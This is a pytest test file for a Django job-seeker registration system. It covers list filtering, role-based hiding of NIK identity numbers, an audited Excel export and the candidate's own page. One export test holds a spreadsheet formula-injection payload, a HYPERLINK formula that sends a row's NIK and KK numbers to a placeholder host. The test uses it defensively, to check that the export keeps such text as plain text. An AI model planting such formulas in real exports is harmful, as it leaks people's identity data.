"""Staff list and export, the candidate detail page, the candidate's own page, and home widgets."""

import io

import pytest
from django.apps import apps
from django.urls import reverse
from openpyxl import load_workbook

from jalur.audit.models import AuditLog
from jalur.candidates import selectors
from jalur.candidates.forms import SECTION_FORMS
from jalur.candidates.models import Candidate, Decision
from jalur.candidates.selectors import visible_columns
from jalur.candidates.services import candidate_verify
from jalur.candidates.stages import JOURNEY, Stage
from jalur.candidates.tests.factories import CandidateFactory

pytestmark = pytest.mark.django_db


class TestList:
    def test_filters_by_stage_kecamatan_and_search(self, client_for, officer):
        siti = CandidateFactory(
            full_name="Siti Aminah", stage=Stage.VERIFIED, phone="+6281211112222"
        )
        CandidateFactory(full_name="Budi", stage=Stage.REGISTERED)
        other = CandidateFactory(
            full_name="Citra",
            nik="3673021705980099",
            district_id="36.73.02",
            village_id="36.73.02.1001",
        )
        client = client_for(officer)

        def names(**params):
            response = client.get(reverse("candidates:list"), params)
            return {c.full_name for c in response.context["page_obj"]}

        assert names(stage=Stage.VERIFIED) == {"Siti Aminah"}
        assert names(district="36.73.02") == {"Citra"}
        assert names(q="aminah") == {"Siti Aminah"}
        assert names(q=siti.nik) == {"Siti Aminah"}
        assert names(q=other.nik[:8]) == {"Citra"}
        assert names(q="0812-1111-2222") == {"Siti Aminah"}

    @pytest.mark.parametrize(
        "q",
        [
            "081234560101",
            "0812-3456-0101",
            "0812 3456 0101",
            "+62 812-3456-0101",
            "+6281234560101",
            "6281234560101",
            "(0812) 3456.0101",
        ],
    )
    def test_search_finds_a_phone_in_every_format_the_forms_accept(self, client_for, officer, q):
        CandidateFactory(full_name="Siti Aminah", phone="+6281234560101")
        CandidateFactory(full_name="Budi", phone="+6281299998888")
        response = client_for(officer).get(reverse("candidates:list"), {"q": q})
        assert [c.full_name for c in response.context["page_obj"]] == ["Siti Aminah"]

    def test_the_last_four_nik_digits_the_list_shows_find_the_person(
        self, client_for, officer, leader
    ):
        siti = CandidateFactory(full_name="Siti Aminah", nik="3673015705980135")
        CandidateFactory(full_name="Budi", nik="3673011705980201")
        response = client_for(officer).get(reverse("candidates:list"), {"q": "0135"})
        assert [c.full_name for c in response.context["page_obj"]] == ["Siti Aminah"]
        assert siti.nik[:4] + "••••••••0135" in response.content.decode()
        hidden = client_for(leader).get(reverse("candidates:list"), {"q": "0135"})
        assert list(hidden.context["page_obj"]) == []  # leadership does not see NIKs

    def test_filters_by_kelurahan(self, client_for, manager):
        CandidateFactory(full_name="Siti", district_id="36.73.01", village_id="36.73.01.1002")
        CandidateFactory(full_name="Budi", district_id="36.73.01", village_id="36.73.01.1003")
        client = client_for(manager)
        response = client.get(reverse("candidates:list"), {"village": "36.73.01.1002"})
        assert [c.full_name for c in response.context["page_obj"]] == ["Siti"]
        assert 'name="village"' in response.content.decode()
        export = client.get(reverse("candidates:export"), {"village": "36.73.01.1002"})
        rows = list(load_workbook(io.BytesIO(export.content)).active.values)
        assert len(rows) == 2 and "Siti" in rows[1]

    def test_pages_of_25_with_a_fixed_number_of_queries(
        self, client_for, officer, django_assert_num_queries
    ):
        client = client_for(officer)
        CandidateFactory.create_batch(5)
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as few:
            client.get(reverse("candidates:list"))
        CandidateFactory.create_batch(40)
        with django_assert_num_queries(len(few)):
            response = client.get(reverse("candidates:list"))
        page = response.context["page_obj"]
        assert len(page) == 25 and "Halaman 1" in response.content.decode()
        assert "45 pencari kerja" in response.content.decode()
        with django_assert_num_queries(len(few)):
            second = client.get(reverse("candidates:list") + page.next_url).context["page_obj"]
        assert len(second) == 20 and not second.has_next
        assert not {c.pk for c in page} & {c.pk for c in second}

    def test_leadership_sees_the_list_without_niks_and_cannot_search_by_nik(
        self, client_for, leader
    ):
        candidate = CandidateFactory()
        client = client_for(leader)
        page = client.get(reverse("candidates:list")).content.decode()
        assert candidate.full_name in page and candidate.nik[-4:] + "<" not in page
        assert "NIK</th>" not in page
        response = client.get(reverse("candidates:list"), {"q": candidate.nik})
        assert list(response.context["page_obj"]) == []
        by_phone = client.get(reverse("candidates:list"), {"q": candidate.phone})
        assert list(by_phone.context["page_obj"]) == []  # whose number is this? not theirs to ask

    def test_an_agency_sees_only_the_candidates_its_organisation_works_with(
        self, client_for, agent, agent_b, scope
    ):
        mine, theirs = CandidateFactory(), CandidateFactory()
        scope(
            "agency_staff",
            lambda user, qs: qs.filter(pk=mine.pk) if user.username == "p3mi" else qs.none(),
        )
        response = client_for(agent).get(reverse("candidates:list"))
        assert list(response.context["page_obj"]) == [mine]
        assert (
            client_for(agent).get(reverse("candidates:detail", args=[theirs.pk])).status_code == 404
        )
        assert (
            client_for(agent_b).get(reverse("candidates:detail", args=[mine.pk])).status_code == 404
        )

    def test_a_candidate_cannot_open_the_staff_pages(self, client_for, candidate_user):
        candidate = CandidateFactory(user=candidate_user)
        client = client_for(candidate_user)
        assert client.get(reverse("candidates:list")).status_code == 403
        assert client.get(reverse("candidates:detail", args=[candidate.pk])).status_code == 403


class TestExport:
    def test_the_filtered_list_in_excel_with_the_columns_the_user_may_see(
        self, client_for, manager
    ):
        verified = CandidateFactory(full_name="Siti Aminah", stage=Stage.VERIFIED)
        CandidateFactory(full_name="Budi", stage=Stage.REGISTERED)
        response = client_for(manager).get(reverse("candidates:export"), {"stage": Stage.VERIFIED})
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.values)
        assert rows[0][:4] == ("No.", "NIK", "Nomor KK", "Nama lengkap")
        assert len(rows) == 2 and rows[1][1] == verified.nik  # kept as text, all 16 digits
        log = AuditLog.objects.get(action="candidate.export")
        assert log.kind == AuditLog.Kind.EXPORT and log.actor == manager
        assert log.changes["rows"] == 1 and log.changes["filters"] == {"stage": Stage.VERIFIED}

    def test_text_that_looks_like_a_formula_is_exported_as_typed_never_as_a_formula(
        self, client_for, manager
    ):
        """A job seeker's own text would otherwise run in the office's Excel, e.g. a link that
        sends the row's NIK and KK away."""
        trap = '=HYPERLINK("https://contoh.invalid/?d="&B2&C2,"Lihat ijazah")'
        CandidateFactory(education_major=trap, street="=1+1")
        response = client_for(manager).get(reverse("candidates:export"))
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.value for cell in cells if cell.data_type == "f"]
        assert {trap, "=1+1"} <= {cell.value for cell in cells}

    def test_columns_follow_what_each_role_may_see(self, leader, agent, manager):
        for user in (leader, agent):
            keys = {c.key for c in visible_columns(user)}
            assert not keys & {"nik", "kk_number", "phone", "email", "street", "birth_date"}
            assert {"full_name", "district", "stage"} <= keys
        assert {"nik", "phone"} <= {c.key for c in visible_columns(manager)}

    @pytest.mark.parametrize(
        "role", ["officer", "verifier", "leader", "trainer", "agent", "candidate_user"]
    )
    def test_only_managers_and_admins_export(self, client_for, request, role):
        response = client_for(request.getfixturevalue(role)).get(reverse("candidates:export"))
        assert response.status_code == 403
        assert not AuditLog.objects.filter(action="candidate.export").exists()


class TestDetailAndEdit:
    def test_an_officer_edits_a_section_and_the_change_is_audited(
        self, client_for, officer, registering
    ):
        response = client_for(officer).post(
            reverse("candidates:edit", args=[registering.pk, "address"]),
            {
                "village": "36.73.01.1003",
                "rt": "7",
                "rw": "2",
                "street": "Jl. Baru",
                "phone": "081234567001",
                "emergency_name": "Ahmad",
                "emergency_relation": "Ayah",
                "emergency_phone": "081311112222",
                "reason": "pindah rumah",
            },
        )
        assert response.status_code == 302
        registering.refresh_from_db()
        assert (registering.village_id, registering.rt) == ("36.73.01.1003", "007")
        log = AuditLog.objects.get(action="candidate.update")
        assert log.changes["village_id"] == ["36.73.01.1002", "36.73.01.1003"]
        assert log.reason == "pindah rumah" and log.actor == officer

    def test_changing_to_a_taken_nik_is_refused_and_the_office_is_led_to_the_record(
        self, client_for, officer, registering
    ):
        """The officer may open every record anyway: the message names the one that has the NIK,
        so they open it instead of registering the person twice. The person registering
        themselves never learns whose it is (test_registration)."""
        other = CandidateFactory(full_name="Orang Lain", sex="P")
        response = client_for(officer).post(
            reverse("candidates:edit", args=[registering.pk, "identity"]),
            {
                "nik": other.nik,
                "kk_number": registering.kk_number,
                "full_name": registering.full_name,
                "birth_place": "Serang",
                "birth_date": "1998-05-17",
                "sex": "P",
                "marital_status": "belum_kawin",
            },
        )
        page = response.content.decode()
        registering.refresh_from_db()
        assert registering.nik != other.nik
        assert "NIK ini sudah terdaftar" in page
        assert (
            f'<a href="{reverse("candidates:detail", args=[other.pk])}">#{other.pk} Orang Lain</a>'
            in page
        )

    def test_the_desk_is_led_to_the_record_that_has_the_nik(self, client_for, officer, registering):
        from .conftest import registration_data

        data = registration_data(full_name="Orang Kedua", phone="0857-2222-3333")
        body = {"consent-agree": "on"}
        for section, form_class in SECTION_FORMS.items():
            for name in form_class(prefix=section).fields:
                if name in data and data[name] not in (None, ""):
                    value = data[name]
                    body[f"{section}-{name}"] = (
                        [str(v) for v in value] if isinstance(value, list | tuple) else str(value)
                    )
        body["identity-nik"] = registering.nik
        page = client_for(officer).post(reverse("candidates:walk_in"), body).content.decode()
        assert f"#{registering.pk} {registering.full_name}" in page
        assert Candidate.objects.count() == 1
        # in the first round, with the other problems, not after them
        body["identity-kk_number"] = "123"
        body["identity-birth_date"] = "1995-03-12"  # not the NIK's date: would ask to confirm
        response = client_for(officer).post(reverse("candidates:walk_in"), body)
        identity = dict(response.context["sections"])[selectors.SECTION_LABELS["identity"]]
        assert f"#{registering.pk}" in " ".join(identity.errors["nik"])
        assert identity.errors["kk_number"]

    def test_the_detail_page_shows_history_to_those_who_may_see_it(
        self, client_for, verifier, leader, submitted
    ):
        assert (
            "Riwayat tahap"
            in client_for(verifier)
            .get(reverse("candidates:detail", args=[submitted.pk]))
            .content.decode()
        )
        page = (
            client_for(leader)
            .get(reverse("candidates:detail", args=[submitted.pk]))
            .content.decode()
        )
        assert "Riwayat tahap" in page and submitted.nik not in page and "Dokumen</h2>" not in page

    def test_an_officer_sends_a_complete_desk_registration_to_verification(
        self, client_for, officer, registering
    ):
        from jalur.candidates.selectors import consent_current
        from jalur.candidates.services import candidate_consent_give

        from .conftest import documents_upload_all

        documents_upload_all(registering, officer)
        candidate_consent_give(candidate=registering, consent=consent_current(), actor=officer)
        client_for(officer).post(reverse("candidates:staff_submit", args=[registering.pk]))
        registering.refresh_from_db()
        assert registering.stage == Stage.REGISTERED

    def test_staff_submit_explains_what_is_missing(self, client_for, officer, registering):
        response = client_for(officer).post(
            reverse("candidates:staff_submit", args=[registering.pk]), follow=True
        )
        assert "Belum lengkap: KTP." in response.content.decode()


class TestOwnPage:
    def test_without_a_record_yet_the_page_says_how_to_start(self, client_for, candidate_user):
        page = client_for(candidate_user).get(reverse("candidates:me")).content.decode()
        assert "Mulai isi data diri" in page

    def test_the_whole_journey_in_plain_indonesian_with_the_current_stage(
        self, client_for, submitted
    ):
        response = client_for(submitted.user).get(reverse("candidates:me"))
        journey = response.context["journey"]
        assert [s["stage"] for s in journey] == JOURNEY
        assert [s["state"] for s in journey][:3] == ["done", "current", "todo"]
        page = response.content.decode()
        for stage in JOURNEY:
            assert str(Stage(stage).label) in page
        assert "Tunggu petugas memeriksa data dan dokumen Anda" in page

    def test_what_the_office_decided_is_shown(self, client_for, verifier, submitted):
        candidate_verify(
            candidate=submitted,
            actor=verifier,
            decision=Decision.CORRECTION,
            items=["Foto KTP buram"],
        )
        page = client_for(submitted.user).get(reverse("candidates:me")).content.decode()
        assert "Foto KTP buram" in page and "Perlu perbaikan data" in page

    def test_other_apps_add_their_sections_to_both_candidate_pages(
        self, client_for, verifier, submitted, monkeypatch
    ):
        config = apps.get_app_config("notifications")
        monkeypatch.setattr(
            config,
            "candidate_sections",
            lambda candidate, user: [
                {
                    "title": "Bagian dari aplikasi lain",
                    "template": "candidates/_checklist.html",
                    "context": {},
                }
            ],
            raising=False,
        )
        for user, url in (
            (submitted.user, reverse("candidates:me")),
            (verifier, reverse("candidates:detail", args=[submitted.pk])),
        ):
            assert "Bagian dari aplikasi lain" in client_for(user).get(url).content.decode()

    def test_staff_opening_the_candidate_page_go_home(self, client_for, officer):
        assert client_for(officer).get(reverse("candidates:me"))["Location"] == reverse("core:home")

    def test_the_candidate_page_leads_to_the_download_of_everything_held(
        self, client_for, submitted
    ):
        # the download itself (JSON plus files, every app) is tested in jalur/privacy
        page = client_for(submitted.user).get(reverse("candidates:me")).content.decode()
        assert reverse("privacy:my_data") in page

    def test_the_home_page_of_a_candidate_is_their_own_page(self, client_for, submitted):
        assert client_for(submitted.user).get("/")["Location"] == reverse("candidates:me")


def test_the_verifiers_home_shows_the_queue(client_for, verifier, submitted):
    page = client_for(verifier).get("/").content.decode()
    assert "Verifikasi pendaftaran" in page and "menunggu verifikasi" in page


def test_the_officers_home_shows_todays_registrations(client_for, officer, registering):
    page = client_for(officer).get("/").content.decode()
    assert "data baru dibuat hari ini" in page


@pytest.mark.django_db
def test_the_office_page_speaks_about_the_person_not_to_them(client_for, officer, registering):
    page = (
        client_for(officer)
        .get(reverse("candidates:detail", args=[registering.pk]))
        .content.decode()
    )
    assert "tahap sekarang" in page and "Anda di sini" not in page
    own = client_for(registering.user).get(reverse("candidates:me")).content.decode()
    assert "Anda di sini" in own
